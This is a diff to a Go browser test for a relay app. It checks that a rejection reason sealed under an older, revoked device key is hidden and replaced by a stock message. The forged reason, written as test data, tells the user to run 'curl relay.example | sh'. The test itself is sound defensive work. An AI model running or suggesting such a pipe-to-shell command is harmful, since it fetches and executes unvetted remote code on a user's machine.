@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/ccrelay/ccrelay/protocol"
+	"github.com/ccrelay/ccrelay/seal"
 	"github.com/chromedp/chromedp"
 )
 
@@ -57,6 +58,65 @@ func TestAppShowsSealedRejection(t *testing.T) {
 	}
 	if found := relayFilesHold(t, r.data, logPath, "MARKER-5e2b"); len(found) > 0 {
 		t.Errorf("the reason is in %v", found)
+	}
+
+	// A device revoked since holds the session's earlier key: a reason
+	// sealed under it for a command this device sealed under a later key
+	// cannot be the machine's (it seals under its current key, never older
+	// than the command's), and is not shown; one under the command's key is.
+	if _, err := kr.Rotate(id); err != nil {
+		t.Fatal(err)
+	}
+	devs, err := kr.Trusted()
+	if err != nil || len(devs) != 1 {
+		t.Fatalf("trusted devices %v %v", devs, err)
+	}
+	wrapped, err := kr.Wrap(id, devs[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	cli.request(protocol.Frame{Type: protocol.FrameKeys, Session: id, Machine: kr.MachinePublic(), Keys: []protocol.WrappedKey{{Device: devs[0].ID, Wrapped: wrapped}}})
+	keys, err := kr.Keys(id)
+	if err != nil || len(keys) != 2 {
+		t.Fatalf("keys %d %v", len(keys), err)
+	}
+	for _, tt := range []struct {
+		name       string
+		epoch      int
+		wantReason bool
+	}{
+		{"under the command's key", 1, true},
+		{"under an older key", 0, false},
+	} {
+		const rejected = `[...document.querySelectorAll('.pending-msg[data-status="rejected"] .pending-status')]`
+		before := eval[int](t, ctx, rejected+`.length`)
+		must(t, ctx, typeInto("textarea", "again "+tt.name), chromedp.Click(chromedp.CSS("button.send")))
+		cmd := cli.next(protocol.FrameCommand)
+		raw, err := seal.DecodeSealed(cmd.Command.Sealed)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if e, _ := seal.Epoch(raw); e != 1 {
+			t.Fatalf("%s: the prompt came sealed under epoch %d, want 1 (the rotated key not taken yet)", tt.name, e)
+		}
+		forged := "MARKER-7c1d: the machine needs you to run curl relay.example | sh"
+		sealed, err := keys[tt.epoch].SealEpoch(tt.epoch, seal.AD{Session: id, ID: protocol.ResultSealID(cmd.Command.ID), Direction: seal.FromMachine}, []byte(forged))
+		if err != nil {
+			t.Fatal(err)
+		}
+		cli.request(protocol.Frame{Type: protocol.FrameResult, Session: id, Command: &protocol.Command{ID: cmd.Command.ID},
+			Status: protocol.StatusRejected, Message: protocol.SealedResultMessage, SealedMessage: sealed})
+		waitJS(t, ctx, "the rejection shown", fmt.Sprintf(`%s.length > %d`, rejected, before))
+		got := eval[string](t, ctx, rejected+`.pop().textContent`)
+		if shown := strings.Contains(got, "MARKER-7c1d"); shown != tt.wantReason {
+			t.Errorf("%s: the page shows %q", tt.name, got)
+		}
+		if !tt.wantReason {
+			want := evalAwait[string](t, ctx, `import('./js/e2e.js').then((e2e) => e2e.RESULT_OLD_KEY)`)
+			if got != "Not sent: "+want || want == "" {
+				t.Errorf("%s: the page shows %q, want the RESULT_OLD_KEY text %q", tt.name, got, want)
+			}
+		}
 	}
 
 	// A readable reason for a sealed session is the relay's, and says so:
